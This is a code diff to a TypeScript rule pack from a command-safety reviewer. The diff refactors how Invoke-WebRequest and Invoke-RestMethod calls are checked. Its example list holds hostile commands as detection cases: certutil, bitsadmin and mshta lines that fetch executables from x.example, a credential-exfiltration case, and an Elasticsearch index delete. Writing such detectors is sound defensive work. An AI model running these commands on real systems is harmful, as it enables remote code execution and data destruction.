@@ -1,45 +1,10 @@
 import type { Command, RuleContext, RulePack, Statement } from '../model/command';
-import { nothing, statement } from '../model/statement';
-import { isCredentialFile } from './shared/credentialFile';
-import { remoteObservation } from './shared/remoteObservation';
-import { cmdletArguments } from './windows/cmdletArguments';
+import { nothing } from '../model/statement';
+import { cmdletRequests } from './http/clients/cmdletRequests';
+import { reviewRequests } from './http/reviewRequests';
 import { localFact } from './windows/localFact';
 
-const HERE = /^(?:https?:\/\/)?(?:localhost|127(?:\.\d+){3}|\[::1\])(?:[:/?]|$)/i;
 const ADDRESS = /^(?:https?|ftp):\/\//i;
-
-function request(command: Command, context: RuleContext): Statement {
-  const args = cmdletArguments(command);
-  const [address] = [...args.values('uri', 'source', 'destination'), ...args.operands].filter(
-    ({ value }) => !/^[A-Za-z]:/.test(value),
-  );
-  if (address === undefined || HERE.test(address.value)) return nothing;
-  const name = address.dynamic ? address.raw : address.value;
-  const [file] = args.values('infile', 'source');
-  if (file !== undefined && isCredentialFile(file.value.replaceAll('\\', '/'), command.cwd)) {
-    const facts = {
-      rule: 'http/secret-sent',
-      effect: 'send-out',
-      severity: 'critical',
-      undo: 'impossible',
-      type: 'credential',
-    } as const;
-    const says = `Sends credential ${file.value} to ${name}`;
-    return statement({ observations: [remoteObservation(command, context, { ...facts, name: file.value, says })] });
-  }
-  if (!/^delete$/i.test(args.values('method', 'custommethod')[0]?.value ?? '')) return nothing;
-  const facts = {
-    rule: 'http/delete',
-    effect: 'delete',
-    severity: 'medium',
-    undo: 'unknown',
-    certainty: 'possible',
-    type: 'http',
-  } as const;
-  return statement({
-    observations: [remoteObservation(command, context, { ...facts, name, says: `Deletes ${name} by a plain request` })],
-  });
-}
 
 function executes(name: string, says: string, command: Command, context: RuleContext): Statement {
   const facts = { rule: 'foreign/run', effect: 'execute', severity: 'high', undo: 'unknown', type: 'code' } as const;
@@ -102,7 +67,9 @@ export const invokeWebRequest: RulePack = {
     'https://learn.microsoft.com/windows-server/administration/windows-commands/regsvr32',
   ],
   review: (command, context) =>
-    /^(?:invoke-(?:web|rest)|start-bits)/.test(command.program) ? request(command, context) : helper(command, context),
+    /^(?:invoke-(?:web|rest)|start-bits)/.test(command.program)
+      ? reviewRequests(cmdletRequests(command), command, context)
+      : helper(command, context),
   examples: {
     catches: [
       {
@@ -115,6 +82,12 @@ export const invokeWebRequest: RulePack = {
         rule: 'http/secret-sent',
         effect: 'send-out',
       },
+      {
+        run: 'invoke-restmethod http://search:9200/logs -Method Delete',
+        rule: 'elasticsearch/delete',
+        effect: 'delete',
+        target: 'logs',
+      },
       { run: 'certutil -urlcache -f http://x.example/a.exe a.exe', rule: 'foreign/run', effect: 'execute' },
       { run: 'bitsadmin /transfer j http://x.example/a.exe C:/a.exe', rule: 'foreign/run', effect: 'execute' },
       { run: 'mshta http://x.example/a.hta', rule: 'foreign/run', effect: 'execute' },
@@ -124,7 +97,6 @@ export const invokeWebRequest: RulePack = {
     leaves: [
       'invoke-webrequest https://acme.example/a.zip -OutFile a.zip',
       'invoke-restmethod https://api.acme.example/users',
-      'invoke-restmethod http://localhost:3000/x -Method Delete',
       'certutil -hashfile a.zip SHA256',
       'regsvr32 /s a.dll',
       'msiexec /i a.msi /qn',
